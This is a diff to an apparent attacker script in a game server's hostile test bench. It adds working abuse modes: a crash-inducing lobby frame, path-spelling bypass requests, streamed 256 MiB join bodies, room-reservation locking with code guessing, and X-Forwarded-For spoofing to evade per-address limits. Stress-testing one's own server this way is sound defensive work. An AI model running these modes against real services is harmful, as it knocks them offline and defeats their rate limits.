@@ -8,6 +8,15 @@
 //             reading its socket and sends refused messages at full rate, never reading a reply; when it is cut off it
 //             does it again.
 //   http    — 16 loops of GET /api/matches, back to back.
+//   lobby   — 11 connections to the lobby at a time, each sending one `__no_message_handler` frame with { toString: 0 }
+//             (once enough to stop the server: issue 28), over and over.
+//   spellings — the matchmaker's create and the API in every spelling (`/matchmake//create/battle`,
+//             `/?x=/matchmake/create/battle`, `/API/matches`, …) back to back, from an address of its own.
+//   bigbody — 4 loops of joins whose body says 256 MiB, streamed as fast as the server reads them.
+//   codelock — reads a listed room's code from the lobby, then keeps it full of joinById reservations it never uses
+//             and guesses codes, from an address of its own.
+// The address modes send X-Forwarded-For: the hostile bench's server trusts it (TRUST_PROXY=1) and its driver spreads
+// its own rooms over addresses the same way, so the default per-address limits apply to the attacker alone.
 // Runs until stdin closes or says anything, then prints one JSON line of what it did and exits.
 import http from 'node:http';
 import { Client, type Room } from 'colyseus.js';
@@ -30,7 +39,11 @@ const RETRY_MS = 100;
 const stats = {
   mode, sent: 0, repliesSeen: 0, closes: {} as Record<string, number>, joins: 0, joinErrors: 0,
   httpRequests: 0, httpErrors: 0, httpStatus: {} as Record<string, number>,
+  /** What the server answered each kind of request: status (or matchmaker error code) → count. */
+  answers: {} as Record<string, Record<string, number>>,
 };
+/** The address the address modes claim (the server trusts X-Forwarded-For in the hostile bench). */
+const ATTACKER_ADDRESS = '198.51.100.200';
 let stopping = false;
 
 function socketOf(room: Room): WebSocket {
@@ -137,6 +150,107 @@ async function httpLoop() {
   }
 }
 
+function count(kind: string, answer: string | number) {
+  const k = (stats.answers[kind] ??= {});
+  k[String(answer)] = (k[String(answer)] ?? 0) + 1;
+  stats.httpRequests++;
+}
+
+/** One request from the attacker's address; the status, or the matchmaker's error code when it answered 200 with one. */
+async function ask(method: string, url: string, body?: string): Promise<string> {
+  try {
+    const res = await fetch(`${httpBase}${url}`, { method, body, headers: { 'Content-Type': 'application/json', 'X-Forwarded-For': ATTACKER_ADDRESS } });
+    const text = await res.text();
+    let code: unknown;
+    try { code = (JSON.parse(text) as { code?: unknown; error?: unknown }).error ? (JSON.parse(text) as { code?: unknown }).code : undefined; } catch { code = undefined; }
+    return code !== undefined ? `${res.status}/${String(code)}` : String(res.status);
+  } catch {
+    stats.httpErrors++;
+    await sleep(50);
+    return 'error';
+  }
+}
+
+async function lobbyFrames() {
+  const client = new Client(endpoint);
+  while (!stopping) {
+    const rooms = await Promise.all(Array.from({ length: 11 }, () => client.joinOrCreate('lobby').catch(() => null)));
+    const closed = rooms.map((room) => new Promise<void>((resolve) => {
+      if (!room) return resolve();
+      stats.joins++;
+      for (const listing of ['rooms', '+', '-']) room.onMessage(listing, () => {});
+      // The answer (an error reply, or a close): then the next round.
+      room.onMessage('*', () => { stats.repliesSeen++; void room.leave().catch(() => {}); resolve(); });
+      room.onMessage('error', () => { stats.repliesSeen++; void room.leave().catch(() => {}); resolve(); });
+      room.onLeave((code) => { if (code !== 4000) countClose(code); resolve(); });
+      room.send('__no_message_handler', { toString: 0 });
+      stats.sent++;
+      setTimeout(resolve, 5000); // no answer at all: go on
+    }));
+    await Promise.all(closed);
+  }
+}
+
+const CREATE_SPELLINGS = ['/matchmake//create/battle', '//matchmake/create/battle', '/?x=/matchmake/create/battle', '/matchmake/create/battle/', '/anything/matchmake/create/battle'];
+const API_SPELLINGS = ['/API/matches', '//api/matches', '/%61pi/matches', '/Api/Matches?limit=1'];
+
+async function spellings() {
+  for (let i = 0; !stopping; i++) {
+    count('create', await ask('POST', CREATE_SPELLINGS[i % CREATE_SPELLINGS.length], '{}'));
+    count('api', await ask('GET', API_SPELLINGS[i % API_SPELLINGS.length]));
+  }
+}
+
+/** POSTs a join whose Content-Length says 256 MiB and streams zeros until the server answers; the status. */
+function bigJoin(): Promise<string> {
+  return new Promise((resolve) => {
+    let done = false;
+    const url = new URL(`${httpBase}/matchmake/joinOrCreate/lobby`);
+    const req = http.request({ host: url.hostname, port: url.port, method: 'POST', path: url.pathname, agent: false,
+      headers: { 'Content-Type': 'application/json', 'Content-Length': String(256 * 2 ** 20), 'X-Forwarded-For': ATTACKER_ADDRESS } }, (res) => {
+      done = true;
+      res.resume();
+      resolve(String(res.statusCode));
+    });
+    req.on('error', () => { if (!done) { done = true; resolve('error'); } });
+    const chunk = Buffer.alloc(64 * 1024);
+    const pump = () => {
+      while (!done && !stopping) if (!req.write(chunk)) return void req.once('drain', pump);
+    };
+    req.write('{"name":"');
+    pump();
+  });
+}
+
+async function bigBodies() {
+  await Promise.all(Array.from({ length: 4 }, async () => {
+    while (!stopping) count('256 MiB join', await bigJoin());
+  }));
+}
+
+/** The code of a room the lobby lists (one of the measured rooms). */
+async function listedCode(): Promise<string | null> {
+  const lobby = await new Client(endpoint).joinOrCreate('lobby');
+  const code = await new Promise<string | null>((resolve) => {
+    lobby.onMessage('rooms', (rooms: { roomId: string }[]) => resolve(rooms[0]?.roomId ?? null));
+    lobby.onMessage('*', () => {});
+    setTimeout(() => resolve(null), 5000);
+  });
+  await lobby.leave().catch(() => {});
+  return code;
+}
+
+async function codeLock() {
+  const code = await listedCode();
+  if (!code) throw new Error('no listed room to lock');
+  const guesses = 'ABCDEFGHJKMNPQRSTUVWXYZ23456789';
+  const guess = () => Array.from({ length: 6 }, () => guesses[Math.floor(Math.random() * guesses.length)]).join('');
+  await Promise.all([
+    (async () => { while (!stopping) count('joinById (lock)', await ask('POST', `/matchmake/joinById/${code}`, '{}')); })(),
+    (async () => { while (!stopping) count('joinById (guess)', await ask('POST', `/matchmake/joinById/${guess()}`, '{}')); })(),
+  ]);
+}
+
 function finish() {
   if (stopping) return;
   stopping = true;
@@ -147,7 +261,11 @@ process.stdin.on('data', finish);
 process.stdin.on('end', finish);
 process.on('SIGTERM', finish);
 
-const run = mode === 'flood' ? flood() : mode === 'sleeper' ? sleeper() : Promise.all(Array.from({ length: HTTP_LOOPS }, httpLoop));
+const modes: Record<string, () => Promise<unknown>> = {
+  flood, sleeper, http: () => Promise.all(Array.from({ length: HTTP_LOOPS }, httpLoop)),
+  lobby: lobbyFrames, spellings, bigbody: bigBodies, codelock: codeLock,
+};
+const run = (modes[mode] ?? flood)();
 run.catch((e) => {
   process.stderr.write(`[attacker ${mode}] ${String(e?.stack ?? e)}\n`);
 });
